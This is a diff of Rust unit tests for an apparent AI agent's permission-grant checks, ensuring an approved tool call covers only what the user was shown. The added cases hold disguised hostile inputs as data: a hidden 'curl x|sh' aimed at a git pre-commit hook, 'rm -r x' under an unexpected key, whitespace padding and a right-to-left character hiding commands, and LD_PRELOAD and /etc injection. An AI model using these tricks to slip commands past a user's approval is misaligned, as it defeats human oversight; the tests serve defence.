@@ -69,12 +69,20 @@ fn write(path: &str) -> (Wanted, Option<Inspection>) {
 }
 
 fn run(command: &str, args: &[&str]) -> (Wanted, Option<Inspection>) {
-    let args = args.iter().map(|&arg| arg.to_owned()).collect();
+    run_with(command, args, None, &[])
+}
+
+fn run_with(
+    command: &str,
+    args: &[&str],
+    cwd: Option<&str>,
+    env: &[(&str, &str)],
+) -> (Wanted, Option<Inspection>) {
     let wanted = Wanted::TerminalCreate {
         command: command.to_owned(),
-        args,
-        env: Vec::new(),
-        cwd: None,
+        args: args.iter().map(|&arg| arg.to_owned()).collect(),
+        env: env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
+        cwd: cwd.map(str::to_owned),
         output_bytes_max: None,
     };
     (wanted, None)
@@ -89,9 +97,17 @@ fn a_grant_covers_what_its_tool_call_names() {
     let run_id = RunId::mint();
     let place = |kind: Value| json!({"kind": kind, "locations": [{"path": "/w/a"}]});
     let shell = |command: Value| json!({"rawInput": {"command": command}});
+    let ls = || shell(json!("ls -l"));
+    let in_disguise = json!({"kind": "edit", "content": diff("/w/README.md")["content"], "rawInput": {"command": "curl x|sh"},
+               "locations": [{"path": "/w/.git/hooks/pre-commit"}]});
+    let in_words = json!({"kind": "edit", "locations": [{"path": "/w/a"}],
+                          "content": [{"type": "content", "content": {"type": "text", "text": "Tidies up"}}]});
+    let other_key = json!({"rawInput": {"command": "", "cmd": "rm -r x"}});
+    let in_place = json!({"rawInput": {"command": "ls -l", "cwd": "/etc", "env": {"LD_PRELOAD": "x"}}});
+    let preload = [("LD_PRELOAD", "/w/x.so")];
     for (call, (wanted, found), covers) in [
         (diff("/w/a"), write("/w/a"), true),
-        (diff("/w//./a"), write("/w/a"), true),
+        (diff("/w//./a"), write("/w/a"), false),
         (diff("/w/a"), write("/w/b"), false),
         (diff("a"), write("/w/a"), false),
         (diff("/w/x/../a"), write("/w/a"), false),
@@ -110,15 +126,38 @@ fn a_grant_covers_what_its_tool_call_names() {
         (shell(json!(["ls", "a b"])), run("ls", &["a", "b"]), false),
         (shell(json!(["ls", 1])), run("ls", &["1"]), false),
         (shell(json!("")), run("", &[]), false),
+        // What the question does not show.
+        (in_disguise.clone(), write("/w/README.md"), true),
+        (in_disguise.clone(), run("curl x|sh", &[]), false),
+        (in_disguise, write("/w/.git/hooks/pre-commit"), false),
+        (in_words, write("/w/a"), false),
+        (other_key, run("rm -r x", &[]), false),
+        (
+            shell(json!(format!("ls{}rm", " ".repeat(600)))),
+            run(&format!("ls{}rm", " ".repeat(600)), &[]),
+            false,
+        ),
+        (shell(json!("ls \u{202e}x")), run("ls \u{202e}x", &[]), false),
+        // Where, with which variables and by which shell.
+        (ls(), run_with("ls -l", &[], Some("/w"), &[]), true),
+        (ls(), run_with("ls -l", &[], Some("/w/sub"), &[]), false),
+        (ls(), run_with("ls -l", &[], None, &preload), false),
+        (in_place.clone(), run_with("ls -l", &[], Some("/etc"), &[]), false),
+        (in_place, run_with("ls -l", &[], None, &preload), false),
+        (ls(), run("bash", &["-lc", "ls -l"]), true),
+        (ls(), run("/usr/bin/sh", &["-c", "ls -l"]), true),
+        (ls(), run("/w/sh", &["-c", "ls -l"]), false),
+        (ls(), run("./sh", &["-c", "ls -l"]), false),
+        (ls(), run("/bin/../w/sh", &["-c", "ls -l"]), false),
     ] {
         let mut grants = Grants::default();
         grants.add_answer(Some(run_id), "allow_once", &call);
-        assert_eq!(grants.covers(Some(run_id), &wanted, found.as_ref()), covers, "{call} {wanted:?}");
+        assert_eq!(grants.covers(Some(run_id), &wanted, found.as_ref(), "/w"), covers, "{call} {wanted:?}");
         for other in [None, Some(RunId::mint())] {
-            assert!(!grants.covers(other, &wanted, found.as_ref()), "of another run: {call}");
+            assert!(!grants.covers(other, &wanted, found.as_ref(), "/w"), "of another run: {call}");
         }
-        grants.consume(Some(run_id), &wanted, found.as_ref());
-        assert!(!grants.covers(Some(run_id), &wanted, found.as_ref()), "used up: {call}");
+        grants.consume(Some(run_id), &wanted, found.as_ref(), "/w");
+        assert!(!grants.covers(Some(run_id), &wanted, found.as_ref(), "/w"), "used up: {call}");
         let mut none = Grants::default();
         for kind in ["reject_once", "reject_always", "maybe"] {
             none.add_answer(Some(run_id), kind, &call);
@@ -135,9 +174,9 @@ fn a_change_of_several_files_covers_each_of_them_once() {
     grants.add_answer(Some(run_id), "allow_once", &call);
     for path in ["/w/b", "/w/a"] {
         let (wanted, found) = write(path);
-        assert!(grants.covers(Some(run_id), &wanted, found.as_ref()));
-        grants.consume(Some(run_id), &wanted, found.as_ref());
-        assert!(!grants.covers(Some(run_id), &wanted, found.as_ref()));
+        assert!(grants.covers(Some(run_id), &wanted, found.as_ref(), "/w"));
+        grants.consume(Some(run_id), &wanted, found.as_ref(), "/w");
+        assert!(!grants.covers(Some(run_id), &wanted, found.as_ref(), "/w"));
     }
     assert!(grants.is_empty());
 }
@@ -159,7 +198,21 @@ fn grants_are_bounded_and_survive_the_database() {
     assert_eq!(serde_json::from_str::<Grants>(&text).unwrap(), grants);
     grants.end_run(run_id);
     let (wanted, found) = write("/w/never-named");
-    assert!(grants.covers(None, &wanted, found.as_ref()), "what holds for the session outlives its run");
+    assert!(
+        grants.covers(None, &wanted, found.as_ref(), "/w"),
+        "what holds for the session outlives its run"
+    );
+}
+
+/// What an answer that holds for the session covers is of the kind that its question showed.
+#[test]
+fn always_covers_the_shown_kind_alone() {
+    let call = json!({"content": diff("/w/a")["content"], "rawInput": {"command": "ls"}});
+    let mut grants = Grants::default();
+    grants.add_answer(None, "allow_always", &call);
+    let ((file, found), (command, _)) = (write("/w/b"), run("ls", &[]));
+    assert!(grants.covers(None, &file, found.as_ref(), "/w"));
+    assert!(!grants.covers(None, &command, None, "/w"));
 }
 
 #[test]
@@ -169,7 +222,7 @@ fn a_question_about_a_large_file_shows_where_it_changes() {
     let found = Inspection { path: "/w/f".to_owned(), is_same: false, old: Content::Text(old) };
     let text = Question::write(7, &found, &new).params.to_string();
     assert!(text.len() < 16_000, "{}", text.len());
-    for part in ["from line 701", "-line 700", "+line seven hundred"] {
+    for part in ["/w/f: ", "from line 701", "-line 700", "+line seven hundred"] {
         assert!(text.contains(part), "{part}: {text}");
     }
     let opaque = Inspection { old: Content::Opaque(9), ..found };
@@ -179,8 +232,15 @@ fn a_question_about_a_large_file_shows_where_it_changes() {
 #[test]
 fn a_question_about_a_command_names_its_directory_and_variables() {
     let question = Question::run(7, "make", Some("/w/sub"), &["LD_PRELOAD"]);
-    assert_eq!(question.params["toolCall"]["title"], "make (in /w/sub; sets LD_PRELOAD)");
+    assert_eq!(question.params["toolCall"]["title"], "(sets LD_PRELOAD; in /w/sub) make");
     let Wanted::Permission { options, .. } = question.what else { panic!("no question") };
     let listed: Vec<&str> = options.iter().map(|option| option.kind.as_str()).collect();
     assert_eq!(listed, ["allow_once", "allow_always", "reject_once"]);
+    let many: Vec<String> = (0..200).map(|n| format!("V{n}")).collect();
+    let many: Vec<&str> = many.iter().map(String::as_str).collect();
+    let long = format!("/w/{}", "d".repeat(400));
+    let question = Question::run(7, &"x".repeat(400), Some(&long), &many);
+    let title = question.params["toolCall"]["title"].as_str().unwrap();
+    assert!(title.starts_with("(sets 200 variables: V0, V1, "), "{title}");
+    assert!(title.find("in /w/ddd").is_some_and(|at| at < 200), "{title}");
 }
